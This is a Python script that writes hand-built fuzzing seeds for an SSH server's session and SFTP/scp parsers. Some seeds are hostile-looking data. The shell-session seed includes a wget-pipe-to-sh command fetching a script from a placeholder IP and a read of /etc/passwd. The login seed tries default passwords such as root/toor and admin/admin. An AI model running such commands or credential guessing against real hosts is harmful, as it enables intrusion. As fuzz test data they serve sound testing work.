#!/usr/bin/env python3
"""Writes the hand-built seeds of the ssh-session and sftp fuzz targets (docs/fuzzing.md):

  Fuzz/corpus/ssh-session/  unprotected SSH packets after the key exchange: the service request, logins by every
                            method, then sessions (a shell with a terminal, exec, sftp, scp, forwarding, a rekey)
  Fuzz/corpus/sftp/         a mode byte (even: the SFTP server, odd: the scp sink) and then what the client sends

usage: Fuzz/seeds/ssh_seeds.py   (from the repository's root; rewrites those files)
"""
import os
import struct


def u32(value):
    return struct.pack(">I", value)


def string(value):
    if isinstance(value, str):
        value = value.encode()
    return u32(len(value)) + value


def boolean(value):
    return b"\x01" if value else b"\x00"


def packet(payload):
    """An unprotected binary packet (RFC 4253 §6): padding to a multiple of 8, at least 4 bytes of it."""
    padding = 8 - (4 + 1 + len(payload)) % 8
    if padding < 4:
        padding += 8
    return u32(1 + len(payload) + padding) + bytes([padding]) + payload + b"\x00" * padding


def service(name="ssh-userauth"):
    return packet(b"\x05" + string(name))


def auth(user, method, extra=b""):
    return packet(b"\x32" + string(user) + string("ssh-connection") + string(method) + extra)


def password(user, secret):
    return auth(user, "password", boolean(False) + string(secret))


def channel_open(kind="session", sender=0, extra=b""):
    return packet(b"\x5a" + string(kind) + u32(sender) + u32(2 * 1024 * 1024) + u32(32768) + extra)


def request(kind, extra=b"", channel=0, reply=True):
    return packet(b"\x62" + u32(channel) + string(kind) + boolean(reply) + extra)


def data(payload, channel=0):
    return packet(b"\x5e" + u32(channel) + string(payload))


def sftp(kind, body):
    message = bytes([kind]) + body
    return u32(len(message)) + message


def login():
    return service() + password("root", "toor")


ED25519_BLOB = string("ssh-ed25519") + string(bytes(range(32)))

SFTP_SESSION = b"".join([
    sftp(1, u32(3)),  # INIT, version 3
    sftp(16, u32(1) + string(".")),  # REALPATH
    sftp(11, u32(2) + string("/root")),  # OPENDIR
    sftp(12, u32(3) + string("\x00\x00\x00\x00")),  # READDIR on handle 0
    sftp(4, u32(4) + string("\x00\x00\x00\x00")),  # CLOSE
    sftp(17, u32(5) + string("/etc/passwd")),  # STAT
    sftp(3, u32(6) + string("/etc/passwd") + u32(1) + u32(0)),  # OPEN for reading
    sftp(5, u32(7) + string("\x00\x00\x00\x01") + struct.pack(">Q", 0) + u32(4096)),  # READ
    sftp(3, u32(8) + string("/tmp/x.sh") + u32(0x1A) + u32(0)),  # OPEN write|create|truncate
    sftp(6, u32(9) + string("\x00\x00\x00\x02") + struct.pack(">Q", 0) + string("#!/bin/sh\nid\n")),  # WRITE
    sftp(4, u32(10) + string("\x00\x00\x00\x02")),  # CLOSE
    sftp(18, u32(11) + string("/tmp/x.sh") + string("/tmp/y.sh")),  # RENAME
    sftp(13, u32(12) + string("/tmp/y.sh")),  # REMOVE
    sftp(200, u32(13) + string("statvfs@openssh.com") + string("/")),  # EXTENDED
])

SCP_UPLOAD = b"C0755 13 x.sh\n#!/bin/sh\nid\n\x00D0755 0 dir\nT1700000000 0 1700000000 0\nC0644 3 a\nabc\x00E\n"

SESSION_SEEDS = {
    "shell": login() + channel_open()
    + request("pty-req", string("xterm-256color") + u32(80) + u32(24) + u32(0) + u32(0) + string(b"\x00"))
    + request("env", string("LANG") + string("C.UTF-8"), reply=False)
    + request("shell")
    + data("uname -a\r") + data("cat /etc/passwd\r") + data("wget http://203.0.113.9/x.sh -O- | sh\r")
    + request("window-change", u32(120) + u32(40) + u32(0) + u32(0), reply=False)
    + data("exit\r") + packet(b"\x60" + u32(0)) + packet(b"\x61" + u32(0)),
    "exec": login() + channel_open() + request("exec", string("uname -a; id"))
    + packet(b"\x5d" + u32(0) + u32(65536)) + packet(b"\x61" + u32(0)),
    "pipe": login() + channel_open() + request("shell") + data("ls -la /\nwhoami\n") + packet(b"\x60" + u32(0)),
    "sftp": login() + channel_open() + request("subsystem", string("sftp")) + data(SFTP_SESSION)
    + packet(b"\x60" + u32(0)),
    "scp": login() + channel_open() + request("exec", string("scp -t /tmp/")) + data(SCP_UPLOAD)
    + packet(b"\x60" + u32(0)),
    "forward": login()
    + channel_open("direct-tcpip", 1, string("10.0.0.1") + u32(3389) + string("127.0.0.1") + u32(50000))
    + packet(b"\x50" + string("tcpip-forward") + boolean(True) + string("0.0.0.0") + u32(8080))
    + packet(b"\x50" + string("hostkeys-prove-00@openssh.com") + boolean(True) + string(ED25519_BLOB))
    + packet(b"\x50" + string("keepalive@openssh.com") + boolean(True)),
    "logins": service() + auth("root", "none") + password("root", "123456") + password("admin", "admin")
    + auth("root", "publickey", boolean(False) + string("ssh-ed25519") + string(ED25519_BLOB))
    + auth("root", "publickey", boolean(True) + string("ssh-ed25519") + string(ED25519_BLOB) + string(b"\x00" * 83))
    + auth("root", "keyboard-interactive", string("") + string(""))
    + packet(b"\x3d" + u32(1) + string("toor")),
    "change": service() + auth("alice", "password", boolean(True) + string("old") + string("new"))
    + password("alice", "pw") + packet(b"\x02" + boolean(False) + string("ignored")),
    "rekey": login() + packet(b"\x14" + b"\x00" * 16 + string("curve25519-sha256,ext-info-c") + string("ssh-ed25519")
                              + string("aes128-ctr") * 2 + string("hmac-sha2-256") * 2 + string("none") * 2
                              + string("") * 2 + boolean(False) + u32(0))
    + packet(b"\x1e" + string(bytes(range(32)))),
    "unknown-service": service("ssh-connection"),
}

SFTP_SEEDS = {
    "server": b"\x00" + SFTP_SESSION,
    "server-split": b"\x2a" + SFTP_SESSION,
    "scp": b"\x01" + SCP_UPLOAD,
    "scp-split": b"\x11" + SCP_UPLOAD,
}


def write(target, seeds):
    folder = os.path.join("Fuzz", "corpus", target)
    os.makedirs(folder, exist_ok=True)
    for name, seed in seeds.items():
        with open(os.path.join(folder, name), "wb") as out:
            out.write(seed)


if __name__ == "__main__":
    write("ssh-session", SESSION_SEEDS)
    write("sftp", SFTP_SEEDS)
